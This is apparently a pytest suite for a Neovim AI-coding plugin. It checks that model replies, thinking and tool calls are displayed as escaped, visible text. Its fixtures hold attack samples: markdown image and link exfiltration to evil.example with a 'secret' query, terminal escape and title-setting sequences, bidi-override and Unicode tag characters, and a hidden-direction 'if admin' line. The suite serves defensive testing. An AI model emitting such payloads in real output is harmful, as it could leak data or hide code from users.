"""What a model or a tool wrote is shown in Neovim and never obeyed (attacks, class rendering)."""

from __future__ import annotations

import pytest

from editors.neovim.conftest import Desk
from editors.neovim.instance import Nvim
from fake_api import reply, tool

RAW = "\x1b\x07\x9b\u202e\u2066\u200b\U000e0041"


def everything_shown(nvim: Nvim) -> str:
    """All text that is on the screen or was said: buffers, lists, messages, statusline, tab and window bars."""
    return nvim.lua(
        "local shown = { vim.inspect(Drive.asked), vim.inspect(Drive.said), require('standfast').statusline() }"
        " for _, window in ipairs(vim.api.nvim_list_wins()) do"
        "   vim.list_extend(shown, vim.api.nvim_buf_get_lines(vim.api.nvim_win_get_buf(window), 0, -1, false))"
        "   table.insert(shown, vim.api.nvim_eval_statusline(vim.wo[window].winbar, { winid = window }).str) end"
        " return table.concat(shown, '\\n')"
    )


@pytest.mark.scenario("ATK-42")
def test_images_and_links_are_text_that_says_where_it_leads(desk: Desk) -> None:
    nvim = desk.nvim
    lines = [
        "![pixel](https://evil.example/x.png?secret=1)",
        "[harmless](https://evil.example/steal)",
        '<img src="https://evil.example/y.png">',
    ]
    desk.push(reply("\n".join(lines)))
    nvim.lua("Drive.send('go') Drive.shown('y.png')")
    shown = nvim.lua("return (Drive.chat())")
    assert [line for line in shown if "evil" in line] == lines
    hidden = nvim.lua(
        "local _, chat = Drive.chat() local window = vim.fn.bufwinid(chat) vim.cmd.redraw()"
        " return { vim.wo[window].conceallevel, vim.fn.screenstring(1, 1) }"
    )
    assert hidden[0] == 0


@pytest.mark.scenario("ATK-43")
@pytest.mark.scenario("ATK-45")
def test_no_control_bidi_or_tag_character_reaches_the_screen(desk: Desk) -> None:
    nvim = desk.nvim
    name = "evil\x1b]0;title\x07.txt"
    desk.push(
        reply(
            f"Look: \x1b[31mred {RAW} end",
            thinking=f"Hm {RAW}",
            tools=[tool("write_file", path=name, content=f"text {RAW}\n")],
        ),
        reply(tools=[tool("run_command", command=f"printf 'a\\033[2Jb' # {RAW}")]),
        reply("Done."),
    )
    nvim.lua("Drive.answer('Allow', 'Allow') Drive.send('go') Drive.shown('Done.')")
    shown = everything_shown(nvim)
    assert not [character for character in RAW if character in shown]
    assert "<U+202E>" in shown
    assert "^[" in shown
    assert "<U+E0041>" in shown
    assert nvim.lua("return #Drive.asked") >= 1


@pytest.mark.scenario("ATK-45")
def test_the_difference_marks_what_a_file_hides_and_keeps_its_text(desk: Desk) -> None:
    nvim = desk.nvim
    hidden = "if admin\u202e \u2066:\u2069\n"
    desk.push(reply(tools=[tool("write_file", path="new.py", content=hidden)]), reply("Done."))
    nvim.lua(
        "local select = vim.ui.select vim.ui.select = function(...) local b = vim.api.nvim_get_current_buf()"
        " Marks = vim.tbl_map(function(m) return m[4].virt_text[1][1] end,"
        " vim.api.nvim_buf_get_extmarks(b, -1, 0, -1, { details = true }))"
        " Text = vim.api.nvim_buf_get_lines(b, 0, -1, false) return select(...) end"
    )
    nvim.lua("Drive.answer('Deny') Drive.send('go') Drive.shown('Done.')")
    assert nvim.lua("return { Marks, Text }") == [["<U+202E>", "<U+2066>", "<U+2069>"], [hidden.rstrip("\n")]]


@pytest.mark.scenario("ATK-46")
def test_a_code_action_carries_ids_only(desk: Desk) -> None:
    nvim = desk.nvim
    (desk.workspace / "ids.py").write_text("x = 0\nx = 0\n")
    patch = "*** Begin Patch\n*** Update File: ids.py\n@@\n-x = 0\n+x = 1\n*** End Patch\n"
    desk.push(reply(tools=[tool("apply_patch", patch=patch)]), reply("Refused."))
    nvim.lua("Drive.mode('auto') Drive.send('go') Drive.shown('Refused.') vim.cmd.wincmd('t')")
    arguments = nvim.lua(
        "Drive.actions('ids.py', 1) local client = vim.lsp.get_clients({ bufnr = 0 })[1]"
        " local params = vim.lsp.util.make_range_params(0, client.offset_encoding) params.context = { diagnostics = {} }"
        " return vim.tbl_map(function(a) return a.command.arguments[1] end,"
        " client:request_sync('textDocument/codeAction', params, 5000, 0).result)"
    )
    assert arguments
    assert {key for argument in arguments for key in argument} <= {"conflictId", "action", "line", "version"}
